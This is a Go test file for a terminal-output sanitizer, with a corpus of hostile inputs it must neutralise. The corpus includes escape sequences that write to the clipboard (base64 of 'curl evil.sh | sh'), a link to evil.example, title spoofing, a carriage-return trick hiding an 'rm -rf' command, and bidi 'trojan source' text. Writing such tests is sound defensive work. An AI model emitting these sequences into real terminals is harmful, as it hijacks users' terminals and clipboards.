package termsafe

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// hostile is a corpus of lines a container (or a stack file) could print to
// take over the operator's terminal, with what Clean must leave.
var hostile = []struct {
	name, in, want string
}{
	{"plain text stays", "GET /health 200 4ms", "GET /health 200 4ms"},
	{"utf-8 and emoji stay", "café 日本語 👍🏽 👨‍👩‍👧", "café 日本語 👍🏽 👨‍👩‍👧"},
	{"OSC 52 clipboard, BEL", "a\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07b", "ab"},
	{"OSC 52 clipboard, ST", "a\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\b", "ab"},
	{"OSC 0 title", "\x1b]0;pwned\x07login ok", "login ok"},
	{"OSC 2 title, ST", "\x1b]2;pwned\x1b\\login ok", "login ok"},
	{"OSC 8 hyperlink", "see \x1b]8;;http://evil.example/\x1b\\docs\x1b]8;;\x1b\\ now", "see docs now"},
	{"CSI cursor up and erase line", "done\x1b[1A\x1b[2Kfake", "donefake"},
	{"CSI clear screen and home", "\x1b[2J\x1b[Hhello", "hello"},
	{"CSI private mode: alt screen, hide cursor", "\x1b[?1049h\x1b[?25lx", "x"},
	{"CSI with intermediate (DECSCUSR)", "a\x1b[2 qb", "ab"},
	{"SGR dropped by Clean", "\x1b[31mred\x1b[0m", "red"},
	{"8-bit CSI byte is an invalid byte", "a\x9b2Jb", "a\uFFFD2Jb"},
	{"C1 CSI as UTF-8 (U+009B) dropped", "a\u009b2Jb", "a2Jb"},
	{"DCS", "a\x1bP1$r0m\x1b\\b", "ab"},
	{"DCS sixel-ish payload", "\x1bPq#0;2;0;0;0#1!6~\x1b\\ok", "ok"},
	{"SOS, PM, APC", "\x1bXsos\x1b\\\x1b^pm\x1b\\\x1b_apc\x1b\\ok", "ok"},
	{"APC is not ended by BEL", "\x1b_x\x07y\x1b\\ok", "ok"},
	{"unterminated OSC swallows the rest", "ok \x1b]0;title never ends", "ok "},
	{"unterminated CSI at end", "ok\x1b[12", "ok"},
	{"OSC cancelled by a new ESC", "\x1b]0;a\x1b[2Jb", "b"},
	{"ESC inside CSI restarts", "\x1b[1\x1b[2Jok", "ok"},
	{"lone ESC at end", "ok\x1b", "ok"},
	{"two-byte ESC: RIS, DECSC", "\x1bc\x1b7ok\x1b8", "ok"},
	{"charset designation", "\x1b(0lqk\x1b(B", "lqk"},
	{"bell", "ding\x07dong", "dingdong"},
	{"NUL and backspace", "pass\x00wo\x08\x08rd", "password"},
	{"CR overwrite trick", "rm -rf /tmp/cache\rls -l            ", "rm -rf /tmp/cache ls -l            "},
	{"CRLF inside", "a\r\nb", "a  b"},
	{"tab becomes spaces", "key\tvalue", "key" + TabSpaces + "value"},
	{"DEL", "a\x7fb", "ab"},
	{"invalid utf-8", "a\xff\xfeb\xc3", "a\uFFFD\uFFFDb\uFFFD"},
	{"encoded surrogate", "a\xed\xa0\x80b", "a\uFFFD\uFFFD\uFFFDb"},
	{"bidi override (trojan source)", "access \u202eresu\u202c level", "access resu level"},
	{"bidi isolate", "x\u2066y\u2069z", "xyz"},
	{"zero width space and BOM", "\ufeffad\u200bmin", "admin"},
	{"invisible tag characters", "hi\U000E0041\U000E0042", "hi"},
	{"NEL and line separator", "a\u0085b\u2028c", "a b c"},
	{"private use becomes U+FFFD", "x\ue000y", "x\uFFFDy"},
	{"nested OSC in CSI params", "\x1b[\x1b]0;t\x07ok", "ok"},
	{"many sequences back to back", strings.Repeat("\x1b[A", 100) + "ok", "ok"},
}

func TestCleanHostileCorpus(t *testing.T) {
	for _, tt := range hostile {
		t.Run(tt.name, func(t *testing.T) {
			got := Clean(tt.in)
			if got != tt.want {
				t.Errorf("Clean(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
			assertPrintable(t, got, false)
		})
	}
}

func TestCleanKeepSGR(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"colour kept, reset appended", "\x1b[1;31mERROR\x1b[0m boom", "\x1b[1;31mERROR\x1b[0m boom\x1b[m"},
		{"empty SGR kept", "\x1b[mx", "\x1b[mx\x1b[m"},
		{"no SGR, no reset", "plain", "plain"},
		{"cursor move dropped, colour kept", "\x1b[2A\x1b[32mok", "\x1b[32mok\x1b[m"},
		{"colon sub-parameters dropped", "\x1b[38:2:1:2:3mx", "x"},
		{"private SGR-like dropped", "\x1b[?31mx", "x"},
		{"SGR with intermediate dropped", "\x1b[31 mx", "x"},
		{"8-bit SGR not kept", "\x9b31mx", "\uFFFD31mx"},
		{"OSC still dropped", "\x1b]0;t\x07\x1b[33my", "\x1b[33my\x1b[m"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := CleanKeepSGR(tt.in)
			if got != tt.want {
				t.Errorf("CleanKeepSGR(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
			assertPrintable(t, got, true)
		})
	}
	for _, tt := range hostile {
		assertPrintable(t, CleanKeepSGR(tt.in), true)
	}
}

func TestCleanPlainASCIIDoesNotAllocate(t *testing.T) {
	line := "2026-11-22 05:00:00 INFO worker ready"
	if n := testing.AllocsPerRun(100, func() { _ = Clean(line) }); n != 0 {
		t.Errorf("Clean of plain ASCII allocates %v times", n)
	}
}

func FuzzClean(f *testing.F) {
	for _, tt := range hostile {
		f.Add(tt.in)
	}
	f.Add("\x1b[1;31mred\x1b[0m")
	f.Fuzz(func(t *testing.T, s string) {
		assertPrintable(t, Clean(s), false)
		assertPrintable(t, CleanKeepSGR(s), true)
		if got := Clean(Clean(s)); got != Clean(s) {
			t.Errorf("Clean is not idempotent on %q: %q then %q", s, Clean(s), got)
		}
	})
}

// assertPrintable fails unless out is valid UTF-8 made of printable runes
// (graphic, or ZWJ/ZWNJ), and, when sgr is set, well-formed SGR sequences.
func assertPrintable(t *testing.T, out string, sgr bool) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("output is not valid UTF-8: %q", out)
	}
	for i := 0; i < len(out); {
		if sgr && out[i] == 0x1b {
			n := sgrLen(out[i:])
			if n == 0 {
				t.Fatalf("output holds a non-SGR escape at %d: %q", i, out)
			}
			i += n
			continue
		}
		r, size := utf8.DecodeRuneInString(out[i:])
		if !unicode.IsGraphic(r) && r != 0x200c && r != 0x200d || unicode.Is(unicode.Cf, r) && r != 0x200c && r != 0x200d {
			t.Fatalf("output holds %U at %d: %q", r, i, out)
		}
		i += size
	}
}

// sgrLen is the length of the SGR sequence at the start of s, or 0. It is
// written independently of isSGR so the test does not check the code
// against itself.
func sgrLen(s string) int {
	if !strings.HasPrefix(s, "\x1b[") {
		return 0
	}
	end := strings.IndexByte(s, 'm')
	if end < 0 || strings.Trim(s[2:end], "0123456789;") != "" {
		return 0
	}
	return end + 1
}

func BenchmarkClean(b *testing.B) {
	lines := map[string]string{
		"plain":   "2026-11-22T05:00:00.123Z INFO [celery.worker] Task shop.tasks.send_mail[8f1c] succeeded in 0.012s: None",
		"unicode": "2026-11-22T05:00:00.123Z INFO utilisateur « café » connecté — 日本語 ✓",
		"hostile": "\x1b[2J\x1b]0;pwned\x07\x1b[31mERROR\x1b[0m payment failed\r\x1b]52;c;ZXZpbA==\x1b\\ for order 1234",
	}
	for name, line := range lines {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(line)))
			for b.Loop() {
				_ = Clean(line)
			}
		})
	}
}
